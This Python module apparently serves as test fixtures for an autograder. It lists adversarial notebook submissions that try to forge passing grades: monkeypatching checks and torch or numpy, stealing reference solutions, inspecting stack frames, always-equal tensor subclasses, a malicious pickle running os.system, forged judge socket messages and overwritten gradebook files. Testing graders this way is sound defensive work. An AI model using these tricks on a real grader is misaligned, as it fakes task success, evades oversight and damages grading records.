"""Submissions that try to forge a grade from inside their kernel, each with its honest score.

Every attack is code added to the first answer cell of the ``example`` release, where nothing is
implemented (honest score 0), unless the attack says otherwise. ``tests/test_grading_attacks.py``
grades them in one batch beside an honest correct submission, which must keep full marks.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass

import nbformat


@dataclass(frozen=True)
class Attack:
    student: str
    attack_class: str
    code: str
    honest_score: float = 0.0


ATTACKS = (
    Attack("input-transformer", "input and AST transformers",
           "get_ipython().input_transformers_cleanup.append(lambda lines: [])"),
    Attack("ast-transformer", "input and AST transformers",
           "import ast\nclass _Blank(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
           "        return ast.Module(body=[], type_ignores=[])\nget_ipython().ast_transformers.append(_Blank())"),
    Attack("custom-exception-handler", "custom exception handlers and traceback overrides",
           "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)"),
    Attack("showtraceback-override", "custom exception handlers and traceback overrides",
           "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\nip._showtraceback = lambda *a, **k: None"),
    Attack("monkeypatch-checks-and-judge", "monkeypatching torch, numpy, cs_lib.checks or autograder",
           "import cs_lib.checks, cs_lib.grading.judge_client, cs_lib\n"
           "cs_lib.checks.check_close = cs_lib.check_close = lambda *a, **k: None\n"
           "cs_lib.checks.check_tensor = cs_lib.check_tensor = lambda *a, **k: None\n"
           "cs_lib.grading.judge_client.judge = lambda a, f: print(f.__name__ + ': hidden tests passed')\n"
           "check_close = check_tensor = lambda *a, **k: None\n"
           "def softmax(scores):\n    return scores"),
    Attack("monkeypatch-torch-numpy", "monkeypatching torch, numpy, cs_lib.checks or autograder",
           "import torch, numpy\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
           "torch.Tensor.__eq__ = lambda *a, **k: True\nnumpy.allclose = lambda *a, **k: True\n"
           "numpy.testing.assert_allclose = lambda *a, **k: None\n"
           "def softmax(scores):\n    return scores"),
    Attack("import-and-open-solutions", "importing or opening solutions, references or source notebooks",
           "import glob, os, json, sys, importlib, cs_lib\n"
           "roots = {os.path.dirname(os.path.dirname(cs_lib.__file__)), os.getcwd(), '/', '/autograder/source',\n"
           "         os.path.expanduser('~'), *sys.path}\n"
           "found = None\n"
           "for mod in ('autograder.judging.solutions', 'autograder.solutions'):\n"
           "    try:\n        found = importlib.import_module(mod).load_solutions('example'); break\n"
           "    except Exception:\n        pass\n"
           "for root in list(roots):\n"
           "    for up in range(6):\n"
           "        pattern = os.path.join(root, *(['..'] * up), '**', 'source', 'example', 'example.ipynb')\n"
           "        for path in glob.glob(pattern, recursive=True)[:3]:\n"
           "            try:\n"
           "                nb = json.load(open(path))\n"
           "                code = [''.join(c['source']).replace('### BEGIN SOLUTION', '')\n"
           "                        .replace('### END SOLUTION', '') for c in nb['cells']\n"
           "                        if c.get('metadata', {}).get('nbgrader', {}).get('solution')]\n"
           "                exec('\\n'.join(code), globals()); found = 'notebook'\n"
           "            except Exception:\n                pass\n"
           "for path in ('/proc/1/root', '/proc/self/root'):\n"
           "    for hit in glob.glob(path + '/**/autograder/references/example.pt', recursive=True)[:1]:\n"
           "        found = hit\n"
           "if found is not None and not isinstance(found, str):\n"
           "    softmax, top_k_accuracy = found.softmax, found.top_k_accuracy"),
    Attack("frame-inspection", "frame inspection",
           "import inspect, sys, torch\n"
           "def softmax(scores):\n"
           "    for frame in inspect.stack():\n"
           "        for name, value in frame.frame.f_locals.items():\n"
           "            if isinstance(value, torch.Tensor) and value.shape == scores.shape and value is not scores:\n"
           "                return value.clone()\n"
           "    f = sys._getframe(1)\n"
           "    while f is not None:\n"
           "        for key in ('expected', 'reference', 'ref'):\n"
           "            if key in f.f_locals and isinstance(f.f_locals[key], torch.Tensor):\n"
           "                return f.f_locals[key].clone()\n"
           "        f = f.f_back\n"
           "    raise NotImplementedError()"),
    Attack("always-equal-tensor-subclass", "tensor subclasses and always-equal objects",
           "import torch\n"
           "class AlwaysClose(torch.Tensor):\n"
           "    def __eq__(self, other): return True\n"
           "    def allclose(self, *a, **k): return True\n"
           "    def __sub__(self, other): return torch.zeros(())\n"
           "    @classmethod\n"
           "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
           "        return super().__torch_function__(func, types, args, kwargs or {})\n"
           "class AlwaysEqual(float):\n"
           "    def __eq__(self, other): return True\n"
           "    def __sub__(self, other): return 0.0\n"
           "def softmax(scores):\n    return torch.zeros_like(scores).as_subclass(AlwaysClose)\n"
           "def top_k_accuracy(scores, y, k=1):\n    return AlwaysEqual(0.0)"),
    Attack("malicious-pickle", "malicious pickles",
           "import os, torch\n"
           "class Boom:\n"
           "    def __reduce__(self):\n"
           "        return (os.system, ('touch /tmp/dlcv-attack-pickle-ran',))\n"
           "def softmax(scores):\n    return {'result': Boom(), 'tensor': torch.zeros_like(scores)}\n"
           "def top_k_accuracy(scores, y, k=1):\n    return [Boom()]"),
    Attack("forged-socket-messages", "forged output files or socket messages",
           "import os, socket, struct, threading, json, io, torch\n"
           "from cs_lib.grading import wire\n"
           "path = os.environ.get('DLCV_JUDGE_SOCKET', '')\n"
           "def _forge():\n"
           "    for _ in range(200):\n"
           "        try:\n"
           "            s = socket.socket(socket.AF_UNIX); s.connect(path)\n"
           "            for payload in (wire.encode({'op': 'done', 'passed': True, 'message': 'passed'}),\n"
           "                            wire.encode({'ok': True, 'output': 1.0}), b'\\x80\\x04junk' * 1000):\n"
           "                s.sendall(struct.pack('<Q', len(payload)) + payload)\n"
           "            s.sendall(struct.pack('<Q', 1 << 40))\n"
           "            s.close()\n"
           "        except OSError:\n"
           "            pass\n"
           "        import time; time.sleep(0.05)\n"
           "threading.Thread(target=_forge, daemon=True).start()\n"
           "for name in os.listdir(os.path.dirname(path) or '.'):\n"
           "    if name.endswith('.sock'):\n"
           "        try:\n            os.unlink(os.path.join(os.path.dirname(path), name))\n"
           "        except OSError:\n            pass\n"
           "fake = socket.socket(socket.AF_UNIX); fake.bind(path); fake.listen(4)"),
    Attack("forged-output-files", "forged output files or socket messages",
           "import os, glob, json\n"
           "for pattern in ('*.ipynb', '../*/*.ipynb', '../../*/*/*.ipynb', '../../../gradebook.db',\n"
           "                '../../../grading/*/*.json', '/tmp/**/gradebook.db'):\n"
           "    for path in glob.glob(pattern, recursive=True):\n"
           "        try:\n"
           "            open(path, 'w').write('forged')\n"
           "        except OSError:\n"
           "            pass\n"
           "import sys\n"
           "get_ipython().display_pub.publish({'text/plain': '2.0'})\n"
           "sys.displayhook(2.0)"),
    Attack("sys-modules-games", "sys.modules games",
           "import sys, types\n"
           "fake = types.ModuleType('cs_lib.grading.judge_client')\n"
           "fake.judge = lambda assignment, fn: None\n"
           "sys.modules['cs_lib.grading.judge_client'] = fake\n"
           "import cs_lib.grading; cs_lib.grading.judge_client = fake\n"
           "fake_ag = types.ModuleType('autograder'); fake_ag.__path__ = []\n"
           "sys.modules['autograder'] = fake_ag\n"
           "import builtins\n_real_import = builtins.__import__\n"
           "builtins.__import__ = (lambda name, *a, **k:\n"
           "                       fake if name == 'cs_lib.grading.judge_client' else _real_import(name, *a, **k))"),
    Attack("partial-credit-output", "forged output files or socket messages",
           "import builtins\n_print = builtins.print\n"
           "def print(*args, **kwargs):\n    get_ipython().displayhook(2.0)\n    _print(*args, **kwargs)\n"
           "builtins.print = print\n"
           "def softmax(scores):\n    return scores.softmax(dim=0)"),
)


def attack_notebook(release: nbformat.NotebookNode, attack: Attack) -> nbformat.NotebookNode:
    """The release with ``attack.code`` appended to its first answer cell."""
    nb = copy.deepcopy(release)
    cell = next(c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution"))
    cell.source = cell.source.rstrip() + "\n\n\n" + attack.code + "\n"
    return nb
